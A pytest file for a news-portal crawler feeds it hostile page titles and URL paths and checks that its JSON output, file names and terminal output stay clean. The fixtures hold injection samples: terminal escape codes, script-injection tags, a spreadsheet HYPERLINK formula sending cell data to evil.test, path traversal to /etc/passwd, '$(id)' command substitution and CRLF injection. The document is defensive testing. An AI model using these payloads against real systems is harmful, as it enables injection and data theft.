"""A portal whose titles and addresses are made against what reads them: files, names of files, and a terminal."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest

from portal_crawler.records.verify import verify_crawl
from portal_crawler.sites.profile_toml import save_profile
from tests.changing_portal import Page, changing_portal, hub_page, story_page

TITLES = (
    "Red \x1b[31malert\x1b]0;owned\x07 \x9b2J",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.test?x="&A1,"Click")',
    "Report \u202egpj.exe\u202c and \u2066more\u2069",
    'A title\u2028of lines\u2029 {"url": "http://evil.test/"}',
    "A long title " * 24_000,
    "NaN",
    "&#xD800; half &#xDC00;",
)
PATHS = ("/..%2f..%2fetc%2fpasswd", "/a%00b.html", "/$(id).html", "/-rf.html", "/%0a%0dx.html", f"/{'x' * 900}.html")
# Every name in a crawl's folder follows from its profile and the time, or is fixed.
_NAME = re.compile(
    r"archive|indexes|work|(articles|duplicates|relations|links|pages|skipped|stories)\.jsonl|index\.cdxj"
    r"|ledger\.sqlite(-wal|-shm)?|stories\.sqlite"
    r"|(crawl|template|datapackage|datapackage-digest)\.json|profile\.toml|crawl\.log|ledger\.lock|SHA256SUMS|odd-\d{14}-\d{5}\.warc\.gz"
)


@pytest.fixture(scope="module")
def crawl(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("odd")
    with changing_portal() as portal:
        stories = {f"/news/{n}.html": story_page(n, title) for n, title in enumerate(TITLES)}
        odd = {path: story_page(40 + n) for n, path in enumerate(PATHS)}
        portal.pages = {path: Page(body) for path, body in {**stories, **odd}.items()}
        portal.pages["/"] = Page(hub_page(*stories, *odd))
        save_profile(portal.profile("odd"), folder / "odd.toml")
        _run("crawl", folder / "odd.toml", "--out", folder / "crawl")
    return folder / "crawl"


def _run(*arguments: str | Path) -> tuple[str, str]:
    command = [sys.executable, "-m", "portal_crawler", *map(str, arguments)]
    done = subprocess.run(command, capture_output=True, check=True)
    return done.stdout.decode(), done.stderr.decode()


def test_every_story_is_there_and_every_line_is_plain_json(crawl: Path) -> None:
    assert verify_crawl(crawl) == []
    for path in crawl.rglob("*.jsonl"):
        for line in path.read_bytes().decode("utf-8").split("\n")[:-1]:
            assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]", line), path
            json.loads(line, parse_constant=lambda name: pytest.fail(f"{name} is no JSON"))
    articles = [json.loads(line) for line in (crawl / "articles.jsonl").read_bytes().splitlines()]
    assert len(articles) == len(TITLES) + len(PATHS)
    assert sum("maps of the delta" in article["text"] for article in articles) == len(articles)
    assert max(len(article["text"]) for article in articles) < 3_000
    assert {'=HYPERLINK("http://evil.test?x="&A1,"Click")', "NaN"} <= {article["title"] for article in articles}


def test_no_name_of_a_file_comes_from_an_address(crawl: Path) -> None:
    assert [path.name for path in crawl.rglob("*") if not _NAME.fullmatch(path.name)] == []
    assert sorted(path.name for path in crawl.parent.iterdir()) == ["crawl", "odd.toml"]


@pytest.mark.parametrize("command", ["report", "verify", "why"])
def test_no_command_says_anything_that_a_terminal_obeys(crawl: Path, command: str) -> None:
    out, err = _run(command, crawl, *(["http://www.portal.test/news/0.html"] if command == "why" else []))
    assert out or err
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", out + err)
    assert max(map(len, err.splitlines()), default=0) < 2_100


def test_an_address_is_written_as_it_was_and_escaped(crawl: Path) -> None:
    urls = {json.loads(line)["url"] for line in (crawl / "pages.jsonl").read_bytes().splitlines()}
    assert {f"http://www.portal.test{path}" for path in PATHS[:2]} <= urls
    assert all(quote(url, safe=":/?#[]@!$&'()*+,;=%-._~") == url for url in urls)
